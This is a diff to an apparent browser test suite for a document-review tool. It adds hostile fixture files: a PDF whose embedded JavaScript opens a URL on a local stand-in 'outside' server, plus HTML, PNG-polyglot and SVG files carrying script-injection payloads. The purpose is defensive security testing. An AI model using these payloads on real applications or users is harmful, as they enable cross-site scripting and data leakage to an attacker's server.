@@ -20,9 +20,11 @@ from markupsafe import Markup
 from playwright.sync_api import BrowserContext, Page, expect
 
 from tests.fixture_types import MakeCampaign, Visit
-from tests.images import png_bomb
+from tests.images import png, png_bomb
+from tests.pdfs import pdf
 from workbench.core.records import Document, Topic
 from workbench.formats.documents.conversations import Message, conversation_html
+from workbench.formats.documents.reading import read_documents
 from workbench.methods.text.formulas import KINDS
 from workbench.setup.changing_settings import change_settings
 from workbench.storage.campaign import open_campaign
@@ -171,8 +173,23 @@ def address_of(server: Outside) -> str:
     return f"http://127.0.0.1:{server.server_port}"
 
 
+def files_of(address: str) -> dict[str, bytes]:
+    """A folder: a PDF that says and does what it should not, and a page with an image that is also a script."""
+    action = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >>"
+    said = [text.replace("OUT", address).encode("latin-1", "replace").decode("latin-1") for text in HTML[:8]]
+    page = f'<img src=both.png alt=\'"><script>{RUN}</script>\'><img src=both.png onerror="{RUN}"><img src=a.svg>'
+    return {
+        "paper.pdf": pdf(
+            *said, title=f"<script>{RUN.replace('(', '').replace(')', '')}</script>", more=action
+        ),
+        "page.html": page.replace("OUT", address).encode(),
+        "both.png": png() + f"<script>{RUN}</script>".encode(),
+        "a.svg": f"<svg onload='{RUN}'/>".encode(),
+    }
+
+
 @pytest.fixture
-def hostile(make_campaign: MakeCampaign, outside: Outside) -> list[str]:
+def hostile(make_campaign: MakeCampaign, outside: Outside, tmp_path: Path) -> list[str]:
     """The campaign `hostile`, every payload in it as text, title and field of a document; their ids."""
     texts = [(text, "text/html") for text in HTML + FORMULAS]
     texts += [(text, "text/markdown") for text in MARKDOWN + FORMULAS]
@@ -186,6 +203,10 @@ def hostile(make_campaign: MakeCampaign, outside: Outside) -> list[str]:
             (text.replace("OUT", address_of(outside)), media_type) for text, media_type in texts
         )
     ]
+    (tmp_path / "files").mkdir()
+    for name, data in files_of(address_of(outside)).items():
+        (tmp_path / "files" / name).write_bytes(data)
+    documents += read_documents(tmp_path / "files")
     ids = [document.document_id for document in documents]
     topics = [Topic("1", "x <script>alert(1)</script>")]
     runs = {"alpha": {"1": ids[::2]}, "beta": {"1": ids[1::2]}}
